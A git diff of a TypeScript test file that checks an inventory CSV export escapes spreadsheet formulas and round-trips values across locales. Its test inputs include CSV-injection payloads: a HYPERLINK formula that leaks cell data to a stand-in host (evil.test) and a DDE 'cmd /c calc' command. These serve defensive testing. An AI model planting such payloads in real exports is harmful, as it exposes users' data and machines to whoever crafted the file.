@@ -3,7 +3,8 @@ import Papa from 'papaparse';
 import { createTranslator } from 'use-intl/core';
 import type en from '../../messages/en.json';
 import { issueText } from './error-sentence';
-import { chunk, errorRowsCsv, inventoryCsvTemplate, parseInventoryCsv, unitsExportCsv, type CsvReadOptions } from './inventory-csv';
+import type { InventoryItemRecord, InventoryUnitRecord } from '@staging/domain/inventory';
+import { chunk, errorRowsCsv, escapeCell, inventoryCsvTemplate, parseInventoryCsv, unescapeCell, unitsExportCsv, type CsvReadOptions } from './inventory-csv';
 
 function optionsIn(locale: 'en' | 'es'): CsvReadOptions {
   const messages = JSON.parse(readFileSync(new URL(`../../messages/${locale}.json`, import.meta.url), 'utf8')) as typeof en;
@@ -84,23 +85,87 @@ describe('CSV downloads', () => {
     expect(rows).toHaveLength(2);
   });
 
+  const item = (fields: Partial<InventoryItemRecord>): InventoryItemRecord => ({
+    itemId: 'i',
+    propertyUnitId: 'u1',
+    propertyId: 'p',
+    unitNumber: '1',
+    floor: null,
+    status: 'AVAILABLE',
+    priceAdjustment: null,
+    notes: null,
+    createdAt: '',
+    updatedAt: '',
+    ...fields,
+  });
+  const unitWith = (items: InventoryItemRecord[], name = 'Tower'): InventoryUnitRecord => ({ propertyUnitId: 'u1', propertyId: 'p', name, createdAt: '', items });
+
   it('exports every item with human status labels and formulas neutralised', () => {
-    const csv = unitsExportCsv([
-      {
-        propertyUnitId: 'u1',
-        propertyId: 'p',
-        name: 'Tower',
-        createdAt: '',
-        items: [
-          { itemId: 'i1', propertyUnitId: 'u1', propertyId: 'p', unitNumber: '=HYPERLINK("x")', floor: 2, status: 'RESERVED', priceAdjustment: -300, notes: null, createdAt: '', updatedAt: '' },
-        ],
-      },
-    ], 'en');
+    const csv = unitsExportCsv([unitWith([item({ unitNumber: '=HYPERLINK("x")', floor: 2, status: 'RESERVED', priceAdjustment: -300 })])], 'en');
     const rows = Papa.parse<string[]>(csv).data;
     expect(rows).toEqual([
       ['unitName', 'unitNumber', 'floor', 'status', 'priceAdjustment', 'notes'],
       ['Tower', `'=HYPERLINK("x")`, '2', 'Reserved', '-300', ''],
     ]);
     expect(parseInventoryCsv(csv, english).rows[0]?.item).toMatchObject({ floor: 2, status: 'RESERVED', priceAdjustment: -300 });
+  });
+
+  it('neutralises every cell a spreadsheet could run, line breaks included', () => {
+    const runnable = [
+      '=HYPERLINK("http://evil.test/?leak="&A2,"Click me")\nsecond line',
+      '=1+1',
+      '+1',
+      '-1',
+      '@SUM(A1)',
+      '\t=1',
+      '\r=1',
+      '  =1+1',
+      "'=1+1",
+      '\uFF1D1+1',
+      'first line\r\n=cmd|\'/c calc\'!A1',
+      'two\nlines',
+    ];
+    const csv = unitsExportCsv([unitWith(runnable.map((notes, index) => item({ unitNumber: String(index), notes })), '@Tower')], 'en');
+    const cells = Papa.parse<string[]>(csv).data.slice(1);
+    for (const row of cells) {
+      expect(row[0]).toBe("'@Tower");
+      expect(row[5]?.startsWith("'")).toBe(true);
+    }
+    expect(cells.map((row) => row[5])).toEqual(runnable.map((value) => `'${value}`));
+  });
+
+  it('exports and imports again without losing a value of any column the import reads', () => {
+    const items = [
+      item({ unitNumber: 'A-1', floor: -1.5, status: 'SOLD', priceAdjustment: 1250.5, notes: 'corner unit\r\nsea view\n=1+1 ' }),
+      item({ unitNumber: '=HYPERLINK("x")', floor: 10_000, status: 'RESERVED', priceAdjustment: -999_999_999_999.99, notes: '=HYPERLINK("http://evil.test/?leak="&A2,"Click me")\n' }),
+      item({ unitNumber: "'quoted", status: 'RENTED', notes: "'=already quoted" }),
+      item({ unitNumber: '-7', notes: '  spaces kept  ' }),
+      item({ unitNumber: 'Ünïcödé 日本', notes: 'a "quoted" word, a comma; and ☃' }),
+    ];
+    for (const locale of ['en', 'es'] as const) {
+      const parsed = parseInventoryCsv(unitsExportCsv([unitWith(items)], locale), optionsIn(locale));
+      expect(parsed.errors).toEqual([]);
+      expect(parsed.unusedColumns).toEqual(['unitName']);
+      expect(parsed.rows.map((row) => row.item)).toEqual(
+        items.map(({ unitNumber, floor, status, priceAdjustment, notes }) => ({
+          unitNumber,
+          ...(floor === null ? {} : { floor }),
+          status,
+          ...(priceAdjustment === null ? {} : { priceAdjustment }),
+          ...(notes === null ? {} : { notes }),
+        })),
+      );
+    }
+  });
+
+  it('takes off exactly the quote the export added', () => {
+    for (const value of ['=1', "'=1", "''=1", "'plain", 'plain', "'", '', 'a\nb', "'a\nb", ' -1']) {
+      expect(unescapeCell(escapeCell(value))).toBe(value);
+    }
+    expect(unescapeCell("'plain")).toBe("'plain");
+  });
+
+  it('names the columns the import does not use', () => {
+    expect(parseInventoryCsv('unitName,unitNumber,comment,,notes\nTower,1,x,,n\n', english).unusedColumns).toEqual(['unitName', 'comment']);
   });
 });
